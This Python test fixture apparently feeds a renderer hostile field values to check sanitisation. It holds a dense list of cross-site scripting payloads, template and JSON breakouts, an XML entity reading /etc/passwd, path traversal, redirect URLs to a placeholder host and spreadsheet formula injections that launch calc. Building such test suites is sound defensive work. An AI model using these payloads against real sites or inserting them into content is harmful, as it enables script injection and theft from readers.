"""What somebody might write into a field to harm its readers, in one list.

`window.attacked` is the canary: a payload that runs sets it.
"""

RUN = "window.attacked=1"
OUTSIDE = "ke-gian.example"

# Ends an attribute of either kind, a title, a style, a comment; begins elements that run or fetch.
MARKUP = (
    f"\"><script>{RUN}</script><img src=x onerror={RUN}>'\" onmouseover={RUN} autofocus onfocus={RUN} "
    f"x='</title></textarea></style></noscript>--><svg/onload={RUN}><base href=https://{OUTSIDE}/>"
    f"<iframe srcdoc=\"<script>parent.{RUN}</script>\"><a href=javascript:{RUN}>a</a>"
    f"\"\u0301 onclick={RUN} y=\"\u0301 &quot; onclick={RUN} &#60;script&#62;")

# Ends a script, JSON, XML, a template; turns the direction of writing.
SCRIPT = (
    f"</script><script>{RUN}//\u2028\u2029\\\"]}});{RUN};({{[\"<!--<script>]]><!ENTITY x SYSTEM "
    f"\"file:///etc/passwd\">&x; {{{{{{body}}}}}} {{{{=<% %>=}}}} <%& title %> {{{{>trang-chu}}}} "
    f"${{{RUN}}} `{RUN}` \\u003cimg src=x onerror={RUN}\\u003e \u202egpj.exe\u2066\u200f\u061c")

ADDRESSES = [
    f"javascript:{RUN}", f"JaVa\tScRiPt:{RUN}", f"\u200bjavascript:{RUN}", f"javascript&colon;{RUN}",
    f"java&#10;script:{RUN}", f"data:text/html,<script>{RUN}</script>", f"vbscript:{RUN}",
    f"//{OUTSIDE}/a", f"/\\{OUTSIDE}/a", f"https:\\\\{OUTSIDE}", f"https://dichvucong.gov.vn@{OUTSIDE}/",
    f"https://a.vn/\" onmouseover={RUN} x=\"", "file:///etc/passwd", "../../../../etc/passwd",
    f"mailto:a@b.vn?bcc=z@{OUTSIDE}", f"tel:1\" onclick={RUN} x=\"", f"feed:javascript:{RUN}",
    f"thu-tuc:1.000001\" onclick={RUN}", f"a@b.vn\" onclick={RUN}", f"blob:https://{OUTSIDE}/x",
]

FORMULAS = [
    f"=HYPERLINK(\"https://{OUTSIDE}/\"&A1,\"x\")", "+2+5+cmd|' /C calc'!A1", "-2+3+cmd|' /C calc'!A1",
    "@SUM(1+9)*cmd|' /C calc'!A1", "một;=1+1", "hai; -1+1", "\u00a0=1+1", "＝1+1", "'=1+1",
]

# What a field of text gets, one after the other: each file of a kind begins at another.
VALUES = [MARKUP, SCRIPT, *ADDRESSES[:4], *FORMULAS[:3], ADDRESSES[7], FORMULAS[4], FORMULAS[7]]

BODY = "\n\n".join([
    MARKUP, SCRIPT, "# " + MARKUP, "## " + SCRIPT,
    f"<script>{RUN}</script>", f"<div onclick=\"{RUN}\">a</div>", f"a <b onmouseover={RUN}>b</b>",
    f"<!-- --><img src=x onerror={RUN}><!-- -->", f"<!--><img src=x onerror={RUN}>-->",
    f"<?x <img src=x onerror={RUN}>?>", f"<![CDATA[<img src=x onerror={RUN}>]]>",
    f"<style>@import 'https://{OUTSIDE}/';</style>", f"<math><mi//xlink:href=\"javascript:{RUN}\">",
    *(f"[liên kết]({a}) ![ảnh]({a}) [khác][{n}] <{a}>\n\n[{n}]: <{a}>" for n, a in enumerate(ADDRESSES)),
    f"[a](tin.md \"\\\" onclick={RUN} x=\\\"\") ![\"><img src=x onerror={RUN}>](x.png '\"><script>')",
    f"https://a.vn/\"onmouseover={RUN} www.{OUTSIDE}\"onclick={RUN} a@b.vn\"onclick={RUN}",
    f"| {MARKUP.replace('|', '')} | b |\n|---|:-:|\n| <svg/onload={RUN}> | =1+1 |",
    f"- [ ] {MARKUP}\n- [x] <script>", f"> {SCRIPT}", f"`<script>{RUN}</script>`",
    f"```{MARKUP.splitlines()[0]}\n</code></pre><script>{RUN}</script>\n```",
    f"a[^\"><script>]\n\n[^\"><script>]: <img src=x onerror={RUN}>",
    f"```bang \"><img src=x onerror={RUN}>\nnguồn: '\"><script>{RUN}</script>'\n---\n<svg/onload={RUN}>,=1+1\n"
    f"\"<script>{RUN}</script>\",-1+1\n```",
    f"```bieu-do \"><img src=x onerror={RUN}>\nnguồn: '\"><img src=x onerror={RUN}>'\nđơn vị: '<b>'\n---\n"
    f"Thôn,\"<img src=x onerror={RUN}>\"\n\"<svg/onload={RUN}>\",5\nb,7\n```",
    f"```luu-y \"><img src=x onerror={RUN}>\n<script>{RUN}</script> [a](javascript:{RUN})\n```",
    f"```chu-ky\nNơi nhận: ['<img src=x onerror={RUN}>']\nChức vụ: '<script>'\nHọ tên: '\"><script>'\n```",
    f"```ghi-chu-so-lieu \"><img src=x onerror={RUN}>\n<img src=x onerror={RUN}>\n```",
    "```thu-tuc\n1.000001\n<script>\n```",
])
